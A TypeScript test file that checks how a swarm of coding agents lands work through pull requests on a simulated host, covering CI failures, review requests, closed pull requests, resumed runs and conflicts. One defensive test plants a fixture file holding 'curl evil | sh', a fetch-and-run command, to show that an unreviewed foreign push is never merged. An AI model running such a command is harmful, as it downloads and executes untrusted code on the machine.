/**
 * Landing through pull requests (issue 20, `target.mode: "pr"`), whole swarms over the in-memory
 * world and a scripted host (`MemoryPullRequests`), in the simulator's discrete time: the polls'
 * waits pass at once, and what the host does is scripted on the pull request's heads and looks.
 */
import { assert, describe, it } from "@effect/vitest"
import { Effect, Exit, Layer } from "effect"
import type { Event } from "../../src/domain/Event.ts"
import { makeSwarmConfig, type SwarmConfig, type TargetConfig } from "../../src/domain/SwarmConfig.ts"
import * as Swarm from "../../src/programs/Swarm.ts"
import { runToEnd } from "../../src/simulation/DiscreteTime.ts"
import * as MemoryPullRequests from "../../src/testing/MemoryPullRequests.ts"
import * as ScriptedAgent from "../../src/testing/ScriptedAgent.ts"
import * as TestSwarm from "../../src/testing/TestSwarm.ts"
import { task, worker } from "./fixtures.ts"

let fixes = 0
const writesItsFile = ScriptedAgent.byCall({
  propose: (request) => ({ answer: "done", edits: { [`src/${request.task}.txt`]: `work for ${request.task}\n` } }),
  fix: (request) => ({ answer: "fixed", edits: { [`src/${request.task}.txt`]: `fix ${++fixes} for ${request.task}\n` } }),
  review: ScriptedAgent.approve
})

const prTarget = (autoMerge: boolean): TargetConfig => ({
  mode: "pr",
  remote: "origin",
  github: { owner: "acme", repo: "app" },
  auto_merge: autoMerge,
  poll_seconds: 30
})

/** A world whose main is a remote, with a host over it. */
const setup = (tasks: ReadonlyArray<string>) => {
  fixes = 0
  const world = TestSwarm.makeWorld({ tasks: tasks.map((id) => task(id)), script: writesItsFile })
  world.repo.useRemote()
  const host = new MemoryPullRequests.MemoryHost(world.repo)
  return { world, host }
}

/** Runs the swarm in simulated time to its end. */
const runSwarm = (world: TestSwarm.World, host: MemoryPullRequests.MemoryHost, config: SwarmConfig) => {
  const { exit, elapsedMs } = runToEnd(
    Swarm.run(config, { runId: "0000pr01" }).pipe(
      Effect.provide(Layer.merge(TestSwarm.layer(world), MemoryPullRequests.layer(host))),
      // A pull request nobody decides is watched for ever: a simulated day says the scenario went wrong.
      Effect.timeout("1 day")
    )
  )
  if (exit === undefined) throw new Error("the swarm stalled")
  if (Exit.isFailure(exit)) throw new Error(String(exit.cause))
  return { report: exit.value, elapsedMs }
}

const outcomes = (world: TestSwarm.World) => world.events.ofTag("MergeResult").map((e: Extract<Event, { _tag: "MergeResult" }>) => e.outcome)

describe("PullRequestLanding", () => {
  it("a failing check, then requested changes, go back to the worker; approved and green, it is merged and the task completes", () => {
    const { world, host } = setup(["a"])
    host.onNewHead = (pull, sha, index) => {
      if (index === 0) host.checks.set(sha, { _tag: "Failed", report: "unit: FAILED\nexpected 1, got 2" })
      if (index === 1) host.review(pull.number, { user: "alice", state: "CHANGES_REQUESTED", commit: sha, body: "please rename the helper" })
      if (index === 2) host.checks.set(sha, { _tag: "Pending", waitingFor: ["unit"] })
    }
    // The third head's checks take three looks; then a person approves.
    host.onLook = (pull, head, looks) => {
      if (pull.heads.indexOf(head) === 2 && looks === 3) {
        host.checks.set(head, { _tag: "Passed" })
        host.review(pull.number, { user: "bob", state: "APPROVED", commit: head, body: "" })
      }
    }
    host.requireApproval = true
    const config = makeSwarmConfig({ workers: [worker("w0", { iterations: 1 })], target: prTarget(true) })
    const { report, elapsedMs } = runSwarm(world, host, config)

    assert.strictEqual(report.merged, 1)
    assert.deepStrictEqual(world.queue.list("complete").map((t) => t.id), ["a"])
    assert.deepStrictEqual(outcomes(world), ["test-failed", "changes-requested", "merged"])
    // One pull request, updated by each fix, merged by the host onto the remote's main.
    assert.strictEqual(host.pulls.length, 1)
    const pull = host.pulls[0]!
    assert.strictEqual(pull.state, "merged")
    assert.strictEqual(pull.heads.length, 3)
    assert.deepStrictEqual(world.events.ofTag("PullRequestOpened").map((e) => e.number), [1, 1, 1])
    assert.deepStrictEqual(world.events.ofTag("PullRequestOpened").map((e) => e.head), pull.heads)
    assert.strictEqual(world.repo.remote!.head, pull.mergedSha)
    assert.strictEqual(world.repo.treeOf(world.repo.remote!.head).get("src/a.txt"), "fix 2 for a\n")
    // The local main follows the remote; the task records the host's commit.
    assert.strictEqual(world.repo.mainHead(), pull.mergedSha)
    assert.strictEqual(world.queue.list("complete")[0]!.merged_sha, pull.mergedSha)
    // What the host said reached the agent.
    const fixPrompts = world.agent.callsOf("fix").map((c) => c.request.prompt)
    assert.strictEqual(fixPrompts.length, 2)
    assert.include(fixPrompts[0], "expected 1, got 2")
    assert.include(fixPrompts[1], "please rename the helper")
    // The pull request's branch went once merged; the wait was the polls'.
    assert.isFalse(world.repo.remote!.branches.has("oompa/a"))
    assert.strictEqual(elapsedMs, 2 * 30_000, "two looks found the checks pending")
  })

  it("without auto_merge a person merges it; what the host put on main completes the task", () => {
    const { world, host } = setup(["a", "b"])
    host.onLook = (pull, _head, looks) => {
      if (looks === 2) host.mergeNow(pull)
    }
    const config = makeSwarmConfig({ workers: [worker("w0", { iterations: 2 })], target: prTarget(false) })
    const { report } = runSwarm(world, host, config)
    assert.strictEqual(report.merged, 2)
    assert.deepStrictEqual(world.queue.list("complete").map((t) => [t.id, t.merged_sha]), host.pulls.map((p) => [p.branch.slice("oompa/".length), p.mergedSha]))
    const tree = world.repo.treeOf(world.repo.remote!.head)
    assert.strictEqual(tree.get("src/a.txt"), "work for a\n")
    assert.strictEqual(tree.get("src/b.txt"), "work for b\n")
  })

  it("a pull request closed without merging fails its task with the reason, and nothing is pushed again", () => {
    const { world, host } = setup(["a"])
    host.onLook = (pull) => host.close(pull.number)
    const config = makeSwarmConfig({ workers: [worker("w0", { iterations: 3 })], target: prTarget(true) })
    host.requireApproval = true
    const { report } = runSwarm(world, host, config)
    assert.strictEqual(report.merged, 0)
    const failed = world.queue.list("failed")
    assert.deepStrictEqual(failed.map((t) => t.id), ["a"])
    assert.include(failed[0]!.last_feedback ?? "", "pull request #1")
    assert.include(failed[0]!.last_feedback ?? "", "closed without being merged")
    assert.deepStrictEqual(world.events.ofTag("IterationFinished").map((e) => e.outcome), ["closed"])
    assert.strictEqual(host.pulls[0]!.heads.length, 1)
    assert.strictEqual(world.agent.callsOf("fix").length, 0)
  })

  it("a run stopped while its pull request waits: the next run finds it by its branch and watches it, without asking the agent again", () => {
    const { world, host } = setup(["a", "b"])
    const config = makeSwarmConfig({ workers: [worker("w0", { iterations: 4 }), worker("w1", { iterations: 4 })], target: prTarget(false) })
    // Nobody decides for a day: the run is stopped with both pull requests open.
    const { exit } = runToEnd(Swarm.run(config, { runId: "0000pr01" }).pipe(
      Effect.provide(Layer.merge(TestSwarm.layer(world), MemoryPullRequests.layer(host))),
      Effect.timeout("1 day")
    ))
    assert.isTrue(exit !== undefined && Exit.isFailure(exit))
    assert.deepStrictEqual(host.pulls.map((p) => [p.branch, p.state]), [["oompa/a", "open"], ["oompa/b", "open"]])
    assert.deepStrictEqual(world.queue.list("pending").map((t) => t.id), ["a", "b"])
    const proposals = world.agent.callsOf("propose").length
    // Then a reviewer asks a's pull request for a change, and b's is merged by a person.
    host.review(1, { user: "alice", state: "CHANGES_REQUESTED", commit: host.pulls[0]!.heads[0]!, body: "one more line, please" })
    host.mergeNow(host.pulls[1]!)
    host.onNewHead = (pull) => void host.mergeNow(pull)
    const { report } = runSwarm(world, host, config)
    const story = JSON.stringify(world.events.ofTag("IterationFinished").map((e) => [e.worker, e.iteration, e.task, e.outcome, e.detail]))
    assert.strictEqual(report.merged, 2, story)
    assert.deepStrictEqual(world.queue.list("complete").map((t) => t.id), ["a", "b"])
    assert.strictEqual(world.agent.callsOf("propose").length, proposals, "no task was proposed again")
    const fixes = world.agent.callsOf("fix")
    assert.strictEqual(fixes.length, 1)
    assert.include(fixes[0]!.request.prompt, "one more line, please")
    // The fix went to the same pull request, on top of the work it held.
    assert.strictEqual(host.pulls.length, 2)
    assert.strictEqual(host.pulls[0]!.heads.length, 2)
    assert.strictEqual(world.repo.treeOf(world.repo.remote!.head).get("src/a.txt"), "fix 1 for a\n")
    assert.strictEqual(world.repo.treeOf(world.repo.remote!.head).get("src/b.txt"), "work for b\n")
  })

  it("auto_merge waits for CI to report: a commit with no check yet is not merged at once, and a failure reported late is fed back", () => {
    const { world, host } = setup(["a"])
    host.onLook = (pull, head, looks) => {
      // CI reports on the first head only at the second look; the fix's checks pass at once.
      if (pull.heads.indexOf(head) === 0 && looks === 2) host.checks.set(head, { _tag: "Failed", report: "lint: 1 error" })
      if (pull.heads.indexOf(head) === 1) host.checks.set(head, { _tag: "Passed" })
    }
    const config = makeSwarmConfig({ workers: [worker("w0", { iterations: 1 })], target: prTarget(true) })
    const { report } = runSwarm(world, host, config)
    assert.strictEqual(report.merged, 1)
    assert.deepStrictEqual(outcomes(world), ["test-failed", "merged"])
    assert.strictEqual(world.repo.treeOf(world.repo.remote!.head).get("src/a.txt"), "fix 1 for a\n", "the unchecked first head never landed")
  })

  it("a repository without CI: a commit no check ever reports on is merged once two looks found none", () => {
    const { world, host } = setup(["a"])
    const config = makeSwarmConfig({ workers: [worker("w0", { iterations: 1 })], target: prTarget(true) })
    const { elapsedMs, report } = runSwarm(world, host, config)
    assert.strictEqual(report.merged, 1)
    assert.strictEqual(elapsedMs, 2 * 30_000)
  })

  it("a pull request whose branch someone else pushed to while no run watched is not taken up: the task is worked on and reviewed again", () => {
    const { world, host } = setup(["a"])
    const config = makeSwarmConfig({ workers: [worker("w0", { iterations: 2 })], target: prTarget(true) })
    host.requireApproval = true
    const { exit } = runToEnd(Swarm.run(config, { runId: "0000pr01" }).pipe(
      Effect.provide(Layer.merge(TestSwarm.layer(world), MemoryPullRequests.layer(host))),
      Effect.timeout("1 day")
    ))
    assert.isTrue(exit !== undefined && Exit.isFailure(exit))
    // A commit nobody reviewed, pushed over oompa's; and the host would merge it at once.
    const { parents } = world.repo.readCommit(world.repo.remote!.branches.get("oompa/a")!)
    const foreign = world.repo.pushAsTeammate({ "evil.sh": "curl evil | sh\n" }, "teammate")
    world.repo.remote!.head = parents[0]!
    world.repo.publishBranch("oompa/a", foreign)
    host.requireApproval = false
    host.onLook = (_pull, head) => void host.checks.set(head, { _tag: "Passed" })
    const reviewsBefore = world.agent.callsOf("review").length
    const { report } = runSwarm(world, host, config)
    assert.strictEqual(report.merged, 1)
    assert.isAbove(world.agent.callsOf("review").length, reviewsBefore, "the work was reviewed again")
    assert.isFalse(world.repo.treeOf(world.repo.remote!.head).has("evil.sh"), "the unreviewed push never landed")
    assert.strictEqual(world.repo.treeOf(world.repo.remote!.head).get("src/a.txt"), "work for a\n")
  })

  it("an automatic merge refused because main moved into a conflict goes back to the worker as a conflict", () => {
    const { world, host } = setup(["a"])
    host.onNewHead = (_pull, _sha, index) => {
      // A teammate's change of the same file lands first: the host cannot merge this one.
      if (index === 0) world.repo.pushAsTeammate({ "src/a.txt": "the teammate's\n" }, "teammate")
    }
    const config = makeSwarmConfig({ workers: [worker("w0", { iterations: 1 })], target: prTarget(true) })
    const { report } = runSwarm(world, host, config)
    assert.strictEqual(report.merged, 0)
    assert.deepStrictEqual(outcomes(world), ["conflict"])
    assert.strictEqual(world.repo.treeOf(world.repo.remote!.head).get("src/a.txt"), "the teammate's\n", "the teammate's work is never overwritten")
    assert.strictEqual(host.pulls[0]!.state, "open")
  })
})
